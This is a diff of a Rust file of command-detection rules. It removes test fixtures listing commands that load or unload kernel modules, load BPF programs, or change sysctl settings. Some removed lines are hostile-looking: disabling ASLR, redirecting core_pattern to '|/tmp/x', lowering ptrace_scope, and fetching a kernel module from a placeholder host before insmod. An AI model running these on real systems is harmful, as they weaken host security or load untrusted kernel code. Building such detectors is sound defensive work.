@@ -35,23 +35,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             When::Command(Command { operand: Operand::Some, ..run(&["kldload", "kextload"]) }),
             When::Command(run(&["kexec"])),
         ],
-        fires: &[
-            "sudo insmod x.ko",
-            "sudo insmod /tmp/build/x.ko",
-            "curl -o drv/x.ko https://x.example/x.ko && sudo insmod drv/x.ko",
-            "sudo modprobe -r nvme",
-            "rmmod kvm",
-            "sudo rmmod -f ledring",
-            "kexec -l vmlinuz",
-        ],
-        silent: &[
-            "lsmod",
-            "modprobe -n nvme",
-            "modinfo nvme",
-            "make modules",
-            "sudo modprobe br_netfilter",
-            "sudo modprobe v4l2loopback devices=2",
-        ],
         ..RULE
     },
     Rule {
@@ -67,20 +50,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
                 Found::from(found.map(|inv| inv.text.as_str()))
             }),
             When::Command(sub(&["bpftool"], &["prog load", "prog loadall", "prog attach"])),
-        ],
-        fires: &[
-            "sudo insmod driver/ledring.ko",
-            "make -C driver && sudo insmod ./driver/ledring.ko debug=1",
-            "sudo rmmod ledring",
-            "sudo modprobe -r ledring",
-            "sudo bpftool prog load x.o /sys/fs/bpf/x autoattach",
-        ],
-        silent: &[
-            "sudo bpftool prog list",
-            "lsmod",
-            "modinfo driver/ledring.ko",
-            "make -C driver",
-            "sudo modprobe vcan",
         ],
         ..RULE
     },
@@ -114,12 +83,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             ]),
             ..run(&["sysctl"])
         })],
-        fires: &[
-            "sysctl -w kernel.randomize_va_space=0",
-            "sudo sysctl -w kernel.core_pattern='|/tmp/x'",
-            "sudo sysctl kernel.yama.ptrace_scope=0",
-        ],
-        silent: &["sysctl kernel.core_pattern", "sysctl -a", "sudo sysctl -w vm.max_map_count=262144"],
         ..RULE
     },
     Rule {
@@ -136,19 +99,6 @@ pub(in crate::rules::builtin) const RULES: &[Rule] = &[
             });
             Found::from(found.map(|inv| inv.text.as_str()))
         })],
-        fires: &[
-            "sudo sysctl -w net.ipv4.ip_forward=1",
-            "sysctl kernel.panic=1",
-            "sudo sysctl -p",
-            "sysctl -w vm.max_map_count=262144 kernel.sysrq=0",
-        ],
-        silent: &[
-            "sysctl -a",
-            "sysctl vm.swappiness",
-            "sysctl -n kernel.ostype",
-            "sudo sysctl -w vm.max_map_count=262144",
-            "sudo sysctl fs.inotify.max_user_watches=524288",
-        ],
         ..RULE
     },
 ];
